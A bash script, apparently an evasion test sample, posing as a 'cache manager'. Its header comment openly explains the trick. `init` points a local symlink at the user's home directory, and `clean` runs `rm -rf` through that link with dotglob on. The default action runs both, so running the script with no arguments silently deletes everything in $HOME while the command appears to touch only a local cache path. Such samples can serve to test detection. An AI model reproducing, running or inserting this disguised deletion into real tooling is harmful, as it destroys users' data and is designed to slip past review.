#!/usr/bin/env bash
# Evasion: a realistic "cache manager" tool. `init` points the cache link at a
# directory chosen from a fallback chain whose last member is the home
# (${XDG_CACHE_HOME:-$HOME} with XDG_CACHE_HOME unset), and `clean` removes
# everything under the link, `rm -rf "$link"/*`: the glob walks through the
# symlink, so the home's contents are deleted while the command names only a
# local path.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
link=$here/.cache-dir

cmd_init() {
  local target=${XDG_CACHE_HOME:-$HOME}
  ln -sfn "$target" "$link"
  echo "cache -> $(readlink "$link")"
}

cmd_stats() {
  local n size
  n=$(find -L "$link" -maxdepth 1 -mindepth 1 | wc -l)
  size=$(du -shL "$link" 2>/dev/null | cut -f1)
  echo "$n entries, $size"
}

cmd_clean() {
  echo "cleaning $(basename "$link")"
  shopt -s dotglob nullglob
  rm -rf -- "$link"/*
  shopt -u dotglob nullglob
  echo "clean"
}

case ${1:-all} in
  init) cmd_init ;;
  stats) cmd_stats ;;
  clean) cmd_clean ;;
  all)
    [ -L "$link" ] || cmd_init
    cmd_stats
    cmd_clean
    ;;
  *)
    echo "usage: $0 [init|stats|clean|all]" >&2
    exit 2
    ;;
esac
